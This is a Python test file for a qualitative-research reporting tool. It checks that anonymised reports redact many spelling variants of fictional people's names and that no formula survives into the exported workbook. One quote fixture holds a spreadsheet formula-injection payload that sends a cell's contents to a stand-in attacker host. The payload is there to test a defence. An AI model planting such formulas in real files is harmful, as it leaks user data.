"""The privacy promise end to end: a corpus of name variants through ``partnet report --anonymise``.

Two fictional cases are built from the tiny fixture, with rosters and
quotes that spell names the way interviewees do (docs/privacy.md): a
surname alone for a roster written "Surname, First", names typed without
ø, ł, ß, halves of double and hyphenated names, zero-width spaces and soft
hyphens inside a name, ``OConnor``-style apostrophes, a ligature, an en
dash, a theme label and an organisation named after a person, a quote
in one case naming someone of the other, and workshop notes (imported from
a workshop page's download) with names typed in them and a facilitator on
the roster. One anonymised run renders both;
the independent gate (:mod:`partnet.privacy`) then reads every file the run
left, and the words of every quote that are not names must still be there.
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import openpyxl
import pytest

import partnet as pn
from partnet.notes import import_notes
from partnet.privacy import Roster, scan
from partnet.report.pipeline import MARKER, _lock, run

pytestmark = pytest.mark.pipeline

TINY = Path(__file__).parent / "fixtures" / "tiny"

ALDER_PEOPLE = """person_id,name,organisation,role,directorate,seniority,responded,consent_named
t1,"Prydderch, Gwenllian",Hollowmere District Council,officer,ICT,senior,yes,yes
t2,Søren Østervang,Hollowmere District Council,officer,citizen-facing,middle,yes,no
t3,Łucja Straußberg,Hollowmere District Council,councillor,none,senior,no,yes
t4,Mary Kate Tresilian-Vosper,Brackenford County Council,partnership staff,corporate,middle,yes,yes
t5,Orla O'Brannagh,Brackenford County Council,officer,back-office,junior,yes,no
t6,Mark Page,Brackenford County Council,officer,ICT,senior,yes,yes
t7,Ffion Ruffington,Saltmarsh Fire and Rescue,officer,corporate,middle,yes,yes
t8,Evander Slocombe,Saltmarsh Fire and Rescue,officer,ICT,junior,no,no
t9,Hal Brennock,Brennock Care Trust,officer,none,senior,no,yes
t10,Bethan Yardley,Brennock Care Trust,officer,none,middle,no,yes
"""

#: (segment id, person, code, quote, words of the quote that must survive redaction)
ALDER_QUOTES = [
    ("S01", "t1", "leadership-executive", "Prydderch said the board would decide, and Gwenllian agreed.",
     ["said the board would decide, and", "agreed."]),
    ("S02", "t2", "strategy-gap", "I asked Soren Ostervang and Lucja Straussberg about the forms project.",
     ["I asked", "about the forms project."]),
    ("S03", "t4", "centralisation-team-drives", "Tresilian and Vosper share the role; Mary and Kate split the week.",
     ["share the role;", "split the week."]),
    ("S04", "t5", "seniority-cannot-commit",
     "OBrannagh, O\u00b4Brannagh and O Brannagh all mean one officer in our minutes.",
     ["all mean one officer in our minutes."]),
    ("S05", "t6", "centralisation-dependence",
     "Turn the page: it was Page who signed, and Page's memo followed the key decision.",
     ["Turn the page: it was", "who signed, and", "'s memo followed the key decision."]),
    ("S06", "t7", "spanner-broker",
     "Ru\ufb03ngton, Ruff\u200bington and Ruf\u00adfington: one person, three spellings.",
     [": one person, three spellings."]),
    ("S07", "t4", "history-prior-projects", "Tresilian\u2013Vosper chairs it; Prydderch, Gwenllian sits in.",
     ["chairs it;", "sits in."]),
    ("S08", "t1", "learning-missed", "Whitlock from the birch partnership rang about the shared portal.",
     ["from the birch partnership rang about the shared portal."]),
    ("S09", "t2", "accountability-reporting",
     '=HYPERLINK("http://evil.example/?leak="&B2,"click") is what the portal showed.',
     ["is what the portal showed."]),
    ("S10", "t4", "embedded-spin-off", "Brennock Care Trust runs the day centres with us.",
     ["Care Trust runs the day centres with us."]),
    ("S11", "t7", "embedded-spin-off", "We met twice. Page said it first.", ["We met twice.", "Page said it first."]),
]

#: Names that are also common words, most of them words of partnet's own pages ("Key people",
#: "Case study", "Cross-case", "Long"), of its styles ("white", "green") or of the inlined library.
BIRCH_PEOPLE = """person_id,name,organisation,role,directorate,seniority,responded,consent_named
t1,Tamsin Whitlock,Hollowmere District Council,officer,ICT,senior,yes,yes
t2,Fenwick Arbogast,Hollowmere District Council,officer,citizen-facing,middle,yes,no
t3,May Green,Hollowmere District Council,councillor,none,senior,no,yes
t4,Hope Cross,Brackenford County Council,partnership staff,corporate,middle,yes,yes
t5,Will Head,Brackenford County Council,officer,back-office,junior,yes,no
t6,Page Long,Brackenford County Council,officer,ICT,senior,yes,yes
t7,Grace White,Saltmarsh Fire and Rescue,officer,corporate,middle,yes,yes
t8,Mark Key,Saltmarsh Fire and Rescue,officer,ICT,junior,no,no
"""

BIRCH_QUOTES = [
    ("S01", "t1", "leadership-executive", "Gwenllian from the alder partnership sent the specification.",
     ["from the alder partnership sent the specification."]),
    ("S02", "t4", "centralisation-team-drives", "Tamsin Whitlock and Fenwick run the projects here.",
     ["run the projects here."]),
]


#: Notes a facilitator took on alder's workshop page (a page of names): (kind, target, note, facilitator, words
#: of the note that must survive redaction). ``{t5}`` is t5's pseudonym, as the page shows someone not named.
ALDER_NOTES = [
    ("person", "Prydderch, Gwenllian", "Gwenllian wants Soren Ostervang on the board.", "Mark Page",
     ["wants", "on the board."]),
    ("tie", "Mary Kate Tresilian-Vosper \u2192 {t5}", "Tresilian and OBrannagh swap rotas weekly.", "",
     ["swap rotas weekly."]),
    ("organisation", "Brennock Care Trust", "Ruffington says the trust runs the day centres.", "",
     ["says the trust runs the day centres."]),
    ("network", "Hollowmere Digital Partnership (fictional)", "Two camps; Page Long is not one of ours.",
     "Ffion Ruffington", ["Two camps;", "is not one of ours."]),
]


def _page_notes(case) -> str:
    """ALDER_NOTES as the workshop page downloads them."""
    rows = ["target_type,target,note,date,facilitator,tie_from,tie_to,view,case,page"]
    for i, (kind, target, note, who, _) in enumerate(ALDER_NOTES):
        target = target.format(t5=case.pseudonyms.of("t5"))
        rows.append(",".join([kind, _csv_quote(target), _csv_quote(note), f"2026-03-04 10:0{i}", _csv_quote(who),
                              "", "", "", case.id, "names"]))
    return "\r\n".join(rows) + "\r\n"


def _csv_quote(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


def _segments(quotes) -> str:
    rows = ["segment_id,person_id,code,excerpt,source,coder"]
    rows += [f"{sid},{pid},{code},{_csv_quote(text)},interview,"
             for sid, pid, code, text, _ in quotes]
    return "\n".join(rows) + "\n"


def _case(root: Path, name: str, people: str, quotes, *, organisations: str | None = None,
          codebook_extra: str = "") -> Path:
    folder = root / name
    shutil.copytree(TINY, folder, ignore=shutil.ignore_patterns(".partnet"))
    yaml = folder / "case.yaml"
    yaml.write_text(yaml.read_text().replace("id: tiny", f"id: {name}"), encoding="utf-8")
    (folder / "people.csv").write_text(people, encoding="utf-8")
    (folder / "segments.csv").write_text(_segments(quotes), encoding="utf-8")
    if organisations:
        with open(folder / "organisations.csv", "a", encoding="utf-8") as f:
            f.write(organisations)
    if codebook_extra:
        with open(folder / "codebook.csv", "a", encoding="utf-8") as f:
            f.write(codebook_extra)
    return folder


@pytest.fixture(scope="module")
def corpus(tmp_path_factory):
    """Both cases, rendered once anonymised; the key written outside the reports."""
    base = tmp_path_factory.mktemp("privacy")
    alder = _case(base / "cases", "alder", ALDER_PEOPLE, ALDER_QUOTES,
                  organisations="Brennock Care Trust,voluntary,40,\n",
                  codebook_extra="reform,Tresilian-Vosper's reforms,governance,Changes the team lead brought in.,\n")
    (alder / "segments.csv").write_text(
        _segments(ALDER_QUOTES) + "S12,t6,reform,We changed the forms.,interview,\n", encoding="utf-8")
    download = base / "alder-notes.csv"
    download.write_text(_page_notes(pn.load_case(alder)), encoding="utf-8")
    import_notes(download, alder)                       # the workshop's notes, names typed in them
    birch = _case(base / "cases", "birch", BIRCH_PEOPLE, BIRCH_QUOTES)
    result = run([alder, birch], base / "reports", anonymise=True, key_out=base / "private" / "key.csv", jobs=2,
                 progress=False)
    return base, result, alder, birch


def _rosters(*cases) -> Roster:
    roster = Roster()
    for c in cases:
        roster.add([name for name, _ in pn.case.roster(c)], case=c.name)
    return roster


def test_the_corpus_renders_with_every_output(corpus):
    _, result, _, _ = corpus
    assert result.ok, [(r.case_id, r.stage, r.error) for r in result.failed]
    assert [r.anonymised for r in result.cases] == [True, True]


def test_the_independent_gate_finds_no_name_part_anywhere(corpus):
    base, result, alder, birch = corpus
    found = scan(result.out, _rosters(alder, birch), secrets=[pn.pseudonyms.read_key(c).hex() for c in (alder, birch)])
    assert found.files >= 50          # two cases: pages, workbooks, graph files, figures, ego sheets
    assert found.leaks == [], found.summary()


def test_the_gate_would_have_seen_the_names(corpus, tmp_path):
    """The check above is not vacuous: the same scan finds every variant in the raw quotes."""
    base, _, alder, birch = corpus
    raw = tmp_path / "raw.txt"
    raw.write_text("\n".join(q[3] for q in ALDER_QUOTES + BIRCH_QUOTES), encoding="utf-8")
    found = {f.name for f in scan(raw, _rosters(alder, birch)).leaks}
    assert found == {"Prydderch, Gwenllian", "Søren Østervang", "Łucja Straußberg", "Mary Kate Tresilian-Vosper",
                     "Orla O'Brannagh", "Mark Page", "Ffion Ruffington", "Hal Brennock", "Tamsin Whitlock",
                     "Fenwick Arbogast", "Page Long"}


def _quotes_sheet(folder: Path) -> list[str]:
    wb = openpyxl.load_workbook(folder / "tables.xlsx")
    ws = wb["quotes"]
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    column = header.index("excerpt")
    return [row[column] for row in ws.iter_rows(min_row=2, values_only=True)]


@pytest.mark.parametrize("case, quotes", [("alder", ALDER_QUOTES), ("birch", BIRCH_QUOTES)], ids=["alder", "birch"])
def test_only_the_names_are_replaced(corpus, case, quotes):
    _, result, _, _ = corpus
    excerpts = " | ".join(_quotes_sheet(result.out / case))
    for _, _, _, text, kept in quotes:
        for words in kept:
            assert words in excerpts, (text, words)
    page = (result.out / case / "report.html").read_text(encoding="utf-8")
    assert "[name]" in page                      # the other case's people, and the surname shared by nobody here


def test_the_report_shows_the_workshop_notes_redacted(corpus):
    _, result, alder, _ = corpus
    assert len(pn.load_case(alder).notes) == len(ALDER_NOTES)
    page = (result.out / "alder" / "report.html").read_text(encoding="utf-8")
    assert 'id="table-workshop_notes"' in page and "Workshop notes beside what people said in interview" in page
    assert "4 workshop notes" in page
    wb = openpyxl.load_workbook(result.out / "alder" / "tables.xlsx")
    rows = list(wb["workshop_notes"].iter_rows(values_only=True))
    header, body = rows[0], rows[1:]
    notes = [r[header.index("note")] for r in body]
    assert len(notes) == len(ALDER_NOTES)
    for (_, _, text, _, kept), shown in zip(ALDER_NOTES, notes):
        for words in kept:
            assert words in shown, (text, shown)
        assert words in page                         # every note is short enough to be shown whole on the page
    assert body[2][header.index("about")].endswith(" Care Trust") and "Brennock" not in body[2][header.index("about")]
    # what the people a note is about said in interview: t1's exemplar, their longest quote (no speaker for a
    # person), naming someone of the other case
    said = body[0][header.index("in the interview")]
    assert said == "[name] from the birch partnership rang about the shared portal."


def test_an_organisation_named_after_a_person_is_redacted_in_every_output(corpus):
    _, result, _, _ = corpus
    for path in (result.out / "alder").rglob("*"):
        if path.suffix in (".html", ".gexf", ".graphml", ".dl", ".svg"):
            assert "Brennock" not in path.read_text(encoding="utf-8"), path.name
    page = (result.out / "alder" / "network.html").read_text(encoding="utf-8")
    assert "Care Trust" in page                  # the rest of its name is still there


def test_anonymised_graph_files_use_pseudonyms_as_ids(corpus):
    import networkx as nx

    _, result, alder, _ = corpus
    G = nx.read_graphml(result.out / "alder" / "alder.graphml")
    assert sorted(G) == sorted(pn.load_case(alder).people["pseudonym"])
    assert not any("consent_named" in d or "person_id" in d for _, d in G.nodes(data=True))


def test_no_formula_in_the_workbook(corpus):
    _, result, _, _ = corpus
    wb = openpyxl.load_workbook(result.out / "alder" / "tables.xlsx")
    cells = [c for ws in wb for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(isinstance(c.value, str) and c.value.startswith("=HYPERLINK") and c.data_type == "s" for c in cells)


def test_a_capitalised_common_word_at_a_sentence_start_is_reported_not_withheld(corpus):
    _, result, _, _ = corpus
    alder = next(r for r in result.cases if r.case_id == "alder")
    # "Page said it first." -- capitalised at a sentence start, Page may be the word: it stays, and the
    # run says where to look. "it was Page who signed" (mid-sentence) was replaced: not ambiguous.
    assert any("'Page'" in w and "tables.xlsx" in w for w in alder.warnings), alder.warnings
    page = (result.out / "index.html").read_text(encoding="utf-8")
    assert "Every report in this folder shows people by pseudonym only" in page
    assert "check: " in page and "Page" in page


def test_every_case_folder_records_that_it_is_anonymised(corpus):
    _, result, _, _ = corpus
    for case in ("alder", "birch", "cross_case"):
        assert json.loads((result.out / case / MARKER).read_text())["anonymised"] is True


def test_a_named_report_beside_anonymised_ones_is_flagged(corpus, tmp_path):
    base, result, _, birch = corpus
    out = tmp_path / "mixed"
    shutil.copytree(result.out, out)
    named = run([birch], out, progress=False)          # consenting people named, beside the anonymised alder
    assert named.ok
    page = named.index.read_text(encoding="utf-8")
    assert "This folder mixes anonymised and named reports" in page
    assert "Reports that name people (where they consented): birch" in page
    assert "<td>alder</td><td>pseudonyms only</td>" in page


def test_two_runs_cannot_write_into_one_folder_at_once(tmp_path):
    out = tmp_path / "reports"
    out.mkdir()
    held = _lock(out)
    try:
        with pytest.raises(pn.errors.ReportError, match="another partnet report is writing into"):
            run([TINY], out, progress=False)
    finally:
        held.close()
    assert not any(p.name.startswith(".partnet-staging") for p in out.iterdir())
